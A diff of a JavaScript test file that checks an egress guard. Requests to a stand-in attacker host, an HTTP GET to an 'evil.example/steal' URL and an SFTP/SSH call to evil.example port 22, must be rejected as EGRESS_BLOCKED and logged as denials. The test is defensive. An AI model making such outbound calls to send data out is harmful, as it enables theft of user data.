@@ -185,7 +185,8 @@ test('a login that is led to another host goes nowhere, and the audit log says s
   const steal = () => rejection(http.send({ method: 'GET', url: 'https://evil.example/steal?a=1' }))
   expect(await steal()).toBeInstanceOf(StepError)
   expect(await steal()).toMatchObject({ code: 'EGRESS_BLOCKED', dialled: 'no' })
-  expect(await rejection(wire.dial('evil.example', 22))).toMatchObject({ code: 'EGRESS_BLOCKED' })
+  const ssh = { protocol: 'SFTP', host: 'evil.example', port: 22 }
+  expect(await rejection(wire.call(ssh, async () => undefined))).toMatchObject({ code: 'EGRESS_BLOCKED' })
   await connections.close()
   const denials = createDenials(it.database.app.db)
   for (const host of ['a.example:443', 'b.example:443']) denials.note('egress.too_many_hosts', workspace, id, host)
